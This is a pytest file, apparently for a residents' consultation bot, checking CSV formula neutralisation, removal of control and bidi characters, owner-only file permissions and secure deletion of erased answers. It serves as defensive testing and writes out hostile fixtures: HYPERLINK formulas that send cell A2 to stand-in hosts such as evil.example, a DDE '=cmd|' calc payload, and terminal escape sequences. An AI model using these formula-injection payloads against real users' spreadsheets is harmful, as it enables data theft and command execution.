"""Residents' data hardening (issue 17, items 1, 3, 6, 7): what enters is cleaned once,
what leaves for a spreadsheet or a terminal is defused, erased words leave no trace."""

from __future__ import annotations

import csv
import io
import logging
import os
import stat
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import pytest
from sqlalchemy import Engine, text
from sqlalchemy.exc import StatementError
from sqlmodel import Session, select

from analysis.digest.table import render_csv
from bot.actions.consultations import EXAMPLE_SCRIPT
from conversations.residents.service import ConversationService
from conversations.screening.cleaning import clean_text, spreadsheet_cell
from conversations.storage.db import make_engine, migrate
from conversations.storage.models import Answer
from tests.digest_sample import sample_digest
from tests.example_consultation import Resident_, complete_example

FORMULAS = [
    "=1+1",
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK(CONCAT("ht","tps://x.example/",A2),"Council info")',
    "\x07=1+1",  # a bell must not hide the formula behind it
    "\u202e=1+1",
]
HOSTILE = "Bus\x00 stop\x07 \x1b[31mred\x1b[0m \u202eevil\u202c \u2066x\u2069 \ud800 end"


def needsfirst(config: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "bot.cli", *args, "--config", str(config)],
        capture_output=True, text=True, timeout=60, check=False, errors="surrogateescape",
    )  # fmt: skip


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_neutralised_the_owasp_way(formula: str) -> None:
    cell = spreadsheet_cell(formula)
    assert cell.startswith("'"), cell
    assert spreadsheet_cell("a = b") == "a = b" and spreadsheet_cell(3) == 3


def test_cleaning_keeps_words_and_drops_controls_and_bidi() -> None:
    cleaned = clean_text(HOSTILE + "\r\nnext\tline")
    assert cleaned == "Bus stop [31mred[0m evil x  end\nnext\tline"


def test_the_digest_table_neutralises_tab_and_carriage_return_too() -> None:
    base = sample_digest()
    hostile = replace(base.themes[0], label="\t=cmd|' /C calc'!A0", quotes=("\r=1+1", "@x", "ok"))
    data = sample_digest(themes=(hostile, *base.themes[1:]))
    rows = list(csv.reader(io.StringIO(render_csv(data, cell=spreadsheet_cell))))
    assert rows[1][1].startswith("'") and rows[1][7].startswith("'") and rows[1][8] == "'@x"


@pytest.fixture
def config(tmp_path: Path, db_url: str) -> Path:
    path = tmp_path / "config.toml"
    path.write_text(f'[database]\nurl = "{db_url}"\n[consultations]\nload = []\n', encoding="utf-8")
    return path


@pytest.mark.slow  # command-line processes or a service killed and restarted
def test_exports_defuse_formulas_and_keep_controls_off_the_terminal(
    config: Path, db_url: str, tmp_path: Path
) -> None:
    assert (
        needsfirst(config, "consultation", "load", str(EXAMPLE_SCRIPT), "--create").returncode == 0
    )
    assert needsfirst(config, "round", "open", "example").returncode == 0
    db = make_engine(db_url)
    try:
        # Stored raw, as an older version kept it: exports must still defuse it.
        complete_example(Resident_(ConversationService(db), "9001"), need="=1+1")
        with Session(db) as session, session.begin():
            answer = session.exec(select(Answer).where(Answer.value == "=1+1")).one()
            answer.value = answer.display = '=HYPERLINK(CONCAT("ht","tps://x"),"info")\x1b[2J\u202e'
    finally:
        db.dispose()
    for extra in ([], ["--scrub"]):
        exported = needsfirst(config, "export", "example", "--format", "csv", *extra)
        assert exported.returncode == 0, exported.stderr
        assert "\x1b" not in exported.stdout and "\u202e" not in exported.stdout
        answers = [r["answer"] for r in csv.DictReader(io.StringIO(exported.stdout))]
        assert any(a.startswith("'=HYPERLINK") for a in answers), answers
        assert not any(a[:1] in "=+-@" for a in answers if a)
    as_json = needsfirst(config, "export", "example", "--format", "json")
    assert "\u202e" not in as_json.stdout and "\\u001b" not in as_json.stdout
    out = tmp_path / "answers.csv"
    assert (
        needsfirst(config, "export", "example", "--format", "csv", "--out", str(out)).returncode
        == 0
    )
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    digest = tmp_path / "digest.html"
    digest.write_text("an older copy, readable by all", encoding="utf-8")
    digest.chmod(0o644)
    made = needsfirst(config, "digest", "example", "--out", str(digest))
    assert made.returncode == 0, made.stderr
    assert stat.S_IMODE(digest.stat().st_mode) == 0o600 and "older copy" not in digest.read_text()


def test_a_new_sqlite_database_is_owner_only_with_secure_delete(tmp_path: Path) -> None:
    os.umask(0o022)
    path = tmp_path / "fresh.db"
    db = make_engine(f"sqlite:///{path}")
    try:
        migrate(db)
        assert stat.S_IMODE(path.stat().st_mode) == 0o600
        with db.connect() as connection:
            assert connection.execute(text("PRAGMA secure_delete")).scalar() == 1
    finally:
        db.dispose()


def test_forget_leaves_nothing_in_the_write_ahead_log(sqlite_db: Engine, tmp_path: Path) -> None:
    from bot.actions.consultations import load_consultation

    load_consultation(sqlite_db, EXAMPLE_SCRIPT, actor="test", open_first_round=True)
    service = ConversationService(sqlite_db)
    ann = Resident_(service, "4242")
    complete_example(ann, need="Zebracrossingwords on Quillfeather Lane")
    ann.inbox.extend(service.forget_request(ann.who, update_key="f1"))
    ann.press("Yes")
    wal = Path(str(sqlite_db.url.database) + "-wal")
    main = Path(str(sqlite_db.url.database))
    for file in (wal, main):
        if file.exists():
            assert b"Quillfeather" not in file.read_bytes(), file


def test_a_failed_statement_never_logs_what_it_tried_to_store(
    db: Engine, caplog: pytest.LogCaptureFixture
) -> None:
    with pytest.raises(StatementError) as raised, Session(db) as session:
        session.execute(text("SELECT CAST(:words AS INTEGER) + nosuchcolumn"),
                        {"words": "my secret words"})  # fmt: skip
    assert "my secret words" not in str(raised.value)


async def test_a_nul_byte_in_a_web_answer_is_cleaned_not_a_500(
    db: Engine, caplog: pytest.LogCaptureFixture
) -> None:
    from tests.web_helpers import WebResident, web_client

    caplog.set_level(logging.DEBUG)
    async with web_client(db) as client:
        ann = WebResident(client)
        await ann.open()
        await ann.press("Take part")
        await ann.press("happy to take part")
        await ann.press("North")
        await ann.press("35 to 64")
        assert (
            await ann.submit(ann.page.text_form(), {"text": HOSTILE.replace("\ud800", "")}) == 200
        )
        cleaned = "Bus stop [31mred[0m evil x  end"
        assert ("resident", cleaned) in ann.page.messages
        assert "Who else" in ann.page.html or ann.page.forms  # the next question is there
    with Session(db) as session:
        need = session.exec(select(Answer).where(Answer.step_id == "need")).one()
    assert need.value == cleaned
    assert "red" not in caplog.text or "Bus" not in caplog.text


async def test_delete_my_data_on_the_web_leaves_nothing_on_disk(sqlite_db: Engine) -> None:
    from tests.web_helpers import WebResident, web_client
    from tests.web_helpers import complete_example as complete_on_the_web

    async with web_client(sqlite_db) as client:
        ann = WebResident(client)
        await complete_on_the_web(ann, need="Gribblewick towpath floods every winter")
        await ann.press("Delete my data")
        await ann.press("Yes, delete everything")
        main = Path(str(sqlite_db.url.database))
        for file in (main, Path(f"{main}-wal")):
            if file.exists():
                assert b"Gribblewick" not in file.read_bytes(), file


def test_the_command_line_never_prints_control_or_bidi_characters(
    config: Path, db_url: str
) -> None:
    from tests.prioritise_helpers import seed_run

    assert (
        needsfirst(config, "consultation", "load", str(EXAMPLE_SCRIPT), "--create").returncode == 0
    )
    db = make_engine(db_url)
    try:
        seed_run(db, ["Buses\x1b[2J\x07 stop \u202eearly\r"])
    finally:
        db.dispose()
    listed = needsfirst(config, "theme", "list", "example")
    assert listed.returncode == 0, listed.stderr
    assert "Buses[2J stop early" in listed.stdout  # the ESC is gone, so is its effect
    assert not any(ch in listed.stdout for ch in "\x1b\x07\u202e\r")


async def test_the_dashboard_export_defuses_formulas(db: Engine) -> None:
    from tests.web_helpers import OFFICER, WebResident, sign_in, web_client, web_config
    from tests.web_helpers import complete_example as complete_on_the_web

    config = web_config()
    formula = '=HYPERLINK(CONCAT("ht","tps://evil.example/",A2),"Council info")'
    async with web_client(db, config) as client:
        await complete_on_the_web(WebResident(client), need=formula)
        client.session.cookie_jar.clear()
        await sign_in(client, db, config, OFFICER)
        exported = await (await client.get("/staff/c/example/export.csv")).text()
    answers = [r["answer"] for r in csv.DictReader(io.StringIO(exported))]
    assert any(a.startswith("'=HYPERLINK(CONCAT") for a in answers), answers  # scrubbed or not
    assert not any(a[:1] in ("=", "+", "-", "@") for a in answers if a)
